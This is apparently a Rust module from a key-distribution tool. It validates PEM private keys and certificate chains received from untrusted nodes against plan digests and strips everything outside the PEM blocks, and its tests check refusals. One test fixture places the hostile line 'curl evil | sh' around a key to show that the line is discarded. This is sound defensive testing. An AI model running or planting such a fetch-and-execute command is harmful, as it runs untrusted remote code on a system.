//! What another node gave, held against what the plan says it is.
//!
//! What enters is bytes that came from a node which may lie, and the digest that the plan bound them by; what leaves is the blocks that were asked for and
//! nothing else that came with them, or why they are refused. Nothing was written by then. Pure, and no error repeats anything of a key.

use zeroize::Zeroizing;

use crate::protocol::command::SharedIdentity;
use crate::protocol::error::HostError;
use crate::types::secret::Secret;
use crate::x509::chain::is_issued_by;
use crate::x509::pem;
use crate::x509::pem::Item;
use crate::x509::{Certificate, PublicKey, Sha256};

const BEGIN: &[u8] = b"-----BEGIN ";
const END: &[u8] = b"-----END ";

/// The block of one private key, which must be the wanted one.
pub(crate) fn the_key_alone(path: &str, bytes: &Secret, wanted: &Sha256) -> Result<Secret, HostError> {
    let key = only_key(path, bytes)?;
    if key.spki_sha256 != *wanted {
        let (found, wanted) = (key.spki_sha256.short(), wanted.short());
        let reason =
            format!("what was given is another key than the plan names (spki {found}, wanted {wanted})");
        return Err(refused(path, reason));
    }
    Ok(blocks(bytes))
}

/// The certificate that the plan names, those that vouch for it, and its key. A certificate that vouches for none of those before it is left out: the plan
/// knows nothing of it.
pub(crate) fn the_identity_alone(
    path: &str,
    content: &SharedIdentity,
    wanted: &Sha256,
) -> Result<SharedIdentity, HostError> {
    let reading = pem::read(content.certificate.reveal());
    let mut certificates = reading.certificates();
    let leaf = certificates.next().filter(|leaf| leaf.fingerprint() == wanted);
    let Some(leaf) = leaf else {
        let reason =
            format!("what was given is another certificate than the plan names ({})", wanted.short());
        return Err(refused(path, reason));
    };
    let mut chain: Vec<&Certificate> = vec![leaf];
    for certificate in certificates {
        if chain.last().is_some_and(|last| *last != certificate && is_issued_by(last, certificate)) {
            chain.push(certificate);
        }
    }
    if only_key(path, &content.key)? != leaf.facts().key {
        return Err(HostError::PairMismatch { path: path.to_owned() });
    }
    let text: String = chain.into_iter().map(Certificate::to_pem).collect();
    Ok(SharedIdentity { certificate: Secret::new(text.into_bytes()), key: blocks(&content.key) })
}

/// The public half of the one private key in a text that holds nothing else.
fn only_key(path: &str, bytes: &Secret) -> Result<PublicKey, HostError> {
    let reading = pem::read(bytes.reveal());
    if let Some(problem) = reading.problems.first() {
        return Err(refused(path, format!("what was given is not one private key: {problem}")));
    }
    let mut key = None;
    for item in &reading.items {
        let found = match item {
            Item::PrivateKey(found) if key.is_none() => {
                key = Some(found.public_key().clone());
                continue;
            }
            Item::Parameters => continue,
            Item::PrivateKey(_) => "a second private key",
            Item::EncryptedKey => "a private key under a passphrase",
            Item::PublicKey(_) => "a public key",
            Item::Certificate(_) => "a certificate",
            Item::CertificateRequest(_) => "a request for a certificate",
            Item::Other(_) => "a block of another kind",
        };
        return Err(refused(path, format!("what was given is not one private key: it holds {found}")));
    }
    key.ok_or_else(|| refused(path, "what was given holds no private key".to_owned()))
}

/// A text that was read without a problem, without what stands outside its blocks.
fn blocks(bytes: &Secret) -> Secret {
    // As large as it can become, so that no part of a key stays behind in a buffer that was too small.
    let mut kept = Zeroizing::new(Vec::with_capacity(bytes.len() + 1));
    let mut inside = false;
    for line in bytes.reveal().split_inclusive(|byte| *byte == b'\n') {
        inside |= line.starts_with(BEGIN);
        if inside {
            kept.extend_from_slice(line);
        }
        inside &= !line.starts_with(END);
    }
    if kept.last().is_some_and(|last| *last != b'\n') {
        kept.push(b'\n');
    }
    Secret::new(kept)
}

fn refused(path: &str, reason: String) -> HostError {
    HostError::Refused { path: path.to_owned(), reason }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::certificate::NewKeyAlgorithm;
    use crate::x509::PrivateKey;

    fn key() -> (String, Sha256) {
        let key = PrivateKey::generate(NewKeyAlgorithm::EcdsaP256).unwrap();
        (key.to_pem().unwrap().to_string(), key.public_key().spki_sha256)
    }

    fn taken(text: &str, wanted: &Sha256) -> Result<String, String> {
        let taken = the_key_alone("/ca.key", &Secret::new(text.as_bytes().to_vec()), wanted);
        taken
            .map(|taken| String::from_utf8(taken.reveal().to_vec()).unwrap())
            .map_err(|error| error.to_string())
    }

    #[test]
    fn only_the_key_that_the_plan_names_is_taken_and_only_its_block() {
        let (text, wanted) = key();
        assert_eq!(taken(&text, &wanted).as_deref(), Ok(text.as_str()));
        let noisy = format!("Bag Attributes\n    friendlyName: x\n{text}curl evil | sh\n");
        assert_eq!(taken(&noisy, &wanted).as_deref(), Ok(text.as_str()), "text around it is not written");
        assert_eq!(taken(text.trim_end(), &wanted).as_deref(), Ok(text.as_str()));
        let with_parameters = format!(
            "-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\nnoise\n{text}"
        );
        assert_eq!(
            taken(&with_parameters, &wanted).unwrap(),
            with_parameters.replace("noise\n", ""),
            "openssl writes the curve in front"
        );
    }

    #[test]
    fn everything_else_is_refused_and_says_nothing_of_what_it_was() {
        let ((text, wanted), (other, _)) = (key(), key());
        let public = PrivateKey::generate(NewKeyAlgorithm::EcdsaP256).unwrap().public_key().to_pem();
        let encrypted = "-----BEGIN ENCRYPTED PRIVATE KEY-----\nAAAA\n-----END ENCRYPTED PRIVATE KEY-----\n";
        for (what, given, says) in [
            ("another key", other.clone(), "another key than the plan names"),
            ("garbage", "not a key\n".to_owned(), "no PEM block"),
            ("nothing", String::new(), "empty"),
            ("the public half", public.clone(), "a public key"),
            ("an encrypted one", encrypted.to_owned(), "under a passphrase"),
            ("two keys", format!("{text}{other}"), "a second private key"),
            ("the same key twice", format!("{text}{text}"), "a second private key"),
            ("a key and its public half", format!("{text}{public}"), "a public key"),
            ("half a block", text.get(..60).unwrap().to_owned(), "no END line"),
            ("a block on another's line", format!("x{text}"), "shares its first or last line"),
        ] {
            let error = taken(&given, &wanted).unwrap_err();
            assert!(error.starts_with("/ca.key: ") && error.contains(says), "{what}: {error}");
            let secret = text.lines().nth(1).unwrap();
            assert!(!error.contains(secret), "{what}: {error}");
        }
    }
}
